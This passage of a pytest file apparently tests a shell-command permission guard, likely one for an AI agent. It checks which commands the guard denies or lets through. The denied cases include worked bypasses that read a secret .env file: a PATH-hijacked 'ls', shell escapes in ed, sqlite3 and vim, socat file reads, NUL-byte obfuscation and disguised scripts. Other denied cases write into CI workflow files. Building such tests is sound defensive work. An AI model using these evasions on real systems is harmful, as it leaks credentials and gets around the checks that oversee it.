    command = "export PATH=.:$PATH; printf '#!/bin/sh\\ncat .env\\n' > ls; chmod +x ls; ls"
    assert _decide(policy, command, project) == "deny"
    assert SECRET in _run(command, project, in_home)


@pytest.mark.parametrize("command", [
    "export PATH=$PWD/node_modules/.bin:$PATH; eslint --version", "PATH=/usr/bin:/bin ls",
    "export PATH=\"$HOME/.local/bin:$PATH\"; echo ok", "PATH=bin:$PATH echo hi",
    "f() { ls; }; PATH=.:$PATH f",
])
def test_putting_directories_on_path_is_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- what a program takes as commands from stdin, and socat's addresses ----------------------
@pytest.mark.parametrize("command", [
    "ed -s a.txt <<< '!cat .env'", "printf '1r .env\\n,p\\nq\\n' | ed -s a.txt",
    "ed -s a.txt <<< $'e .env\\n,p'", "sqlite3 :memory: <<< '.shell cat .env'",
    "echo '.system cat .env' | sqlite3", "vim -e a.txt <<< '!cat .env'",
    "socat -u FILE:.env STDOUT", "socat -u OPEN:.env,rdonly -", "socat -u ./.env -",
])
def test_commands_a_program_reads_from_stdin_and_socat_files(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    program = command.split()[0] if not command.startswith(("printf", "echo")) else (
        command.split("| ")[-1].split()[0])
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed here: the outcome cannot be shown")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(f"timeout 10 bash -c {shlex.quote(command)} 2>&1", project,
                          in_home), command


@pytest.mark.parametrize("command", [
    "ed -s a.txt <<< $',s/a/b/g\\nw\\nq'", "printf ',s/a/b/\\nwq\\n' | ed -s a.txt",
    "sqlite3 app.db <<< 'create table t(x);'", "echo 'select 1;' | sqlite3 app.db",
    "sqlite3 app.db < missing.sql", "socat TCP-LISTEN:8080,fork TCP:localhost:80", "vim a.txt",
])
def test_ordinary_stdin_commands_and_socat_are_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- writes by stdlib archive modules, in-place yq, format-patch -o, a globbed destination ----
@pytest.mark.parametrize("command", [
    "python3 -m zipfile -c ../z.zip a.txt && python3 -m zipfile -e ../z.zip .github/workflows",
    "python3 -m tarfile -c ../t.tar a.txt && python3 -m tarfile -e ../t.tar .github/workflows",
    "shopt -s dotglob; cp a.txt */workflows/", "GLOBIGNORE=.; cp a.txt */workflows/",
    "shopt -s globstar dotglob; cp a.txt **/workflows/",
])
def test_writes_into_a_guarded_directory_named_indirectly(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


def test_yq_in_place_and_format_patch_output_write(
        policy: Policy, project: Path, in_home: Path, workflows: Path) -> None:
    for command in ("yq -i '.on = \"pull_request_target\"' .github/workflows/ci.yml",
                    "git format-patch -o .github/workflows HEAD~1"):
        assert _decide(policy, command, project) == "deny", command
    for command in ("yq '.on' .github/workflows/ci.yml", "yq -i '.a = 1' cfg.yaml",
                    "git format-patch -o patches HEAD~1", "python3 -m zipfile -l ../z.zip",
                    "cp *.txt src/", "mv a.txt src/"):
        assert _decide(policy, command, project) == "abstain", command


# -- what a command substitution or a pipe carries, NUL bytes dropped as bash drops them -----
@pytest.mark.parametrize("command", [
    "printf 'cat .e\\0nv\\n' | bash", "cat $(printf '.e\\0nv')",
    "printf '.e\\0nv\\n' | { read -r f; cat \"$f\"; }",
    "cat \"$(cat <<'EOF'\n.env\nEOF\n)\"",
])
def test_text_bash_makes_of_a_literal_is_read_as_bash_makes_it(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(f"{command} 2>/dev/null", project, in_home), command


@pytest.mark.parametrize("command", [
    "gh pr create --title 'Add login' --body \"$(cat <<'EOF'\n## Summary\n- Adds the login "
    "page ($HOME stays as written)\n\n## Test plan\n- pytest\nEOF\n)\"",
    "frob --message \"$(echo hello world)\"", "frob \"$(printf '%s-%s' a b)\"",
])
def test_an_unknown_programs_argument_from_a_literal_substitution_is_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


def test_a_script_with_nul_bytes_after_its_first_line_is_unknown_code(
        policy: Policy, project: Path, in_home: Path) -> None:
    """bash calls a file binary only for a NUL before the first newline of its first 80
    bytes; later NULs it skips, and runs the rest."""
    script = project / "run.sh"
    script.write_bytes(b"cat .env\n\0\n")
    script.chmod(0o755)
    assert _decide(policy, "./run.sh", project) == "deny"
    assert SECRET in _run("./run.sh 2>/dev/null", project, in_home)
    _executable(project / "env-busybox.sh", "#!/usr/bin/env busybox sh\ncat .env\n")
    assert _decide(policy, "./env-busybox.sh", project) == "deny"  # busybox's own shell
    (project / "tool").write_bytes(Path("/bin/true").read_bytes())
    (project / "tool").chmod(0o755)
    assert _decide(policy, "./tool", project) == "abstain"  # a binary: an unknown program
